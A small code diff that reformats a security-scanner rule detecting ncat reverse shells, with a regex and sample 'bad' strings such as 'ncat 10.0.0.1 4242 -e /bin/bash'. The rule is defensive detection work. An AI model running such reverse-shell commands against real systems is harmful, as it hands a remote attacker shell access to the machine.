@@ -10,7 +10,9 @@ RULE = ScannerRule(
     category="reverse-shell",
     severity="critical",
     message="Ncat hands a shell to a network connection",
-    check=Pattern(rf"""(?:^|[^\w.@$-])ncat(?:\.exe)?(?:\s[^|;]*)?\s(?:-[a-z]*[ec]|--exec|--sh-exec)[\s=]*["']?(?:[\w./-]+\s+)?{SHELL_ARGUMENT}"""),
+    check=Pattern(
+        rf"""(?:^|[^\w.@$-])ncat(?:\.exe)?(?:\s[^|;]*)?\s(?:-[a-z]*[ec]|--exec|--sh-exec)[\s=]*["']?(?:[\w./-]+\s+)?{SHELL_ARGUMENT}"""
+    ),
     bad=(
         "ncat 10.0.0.1 4242 -e /bin/bash",
         "ncat --exec /bin/sh 10.0.0.1 4242",
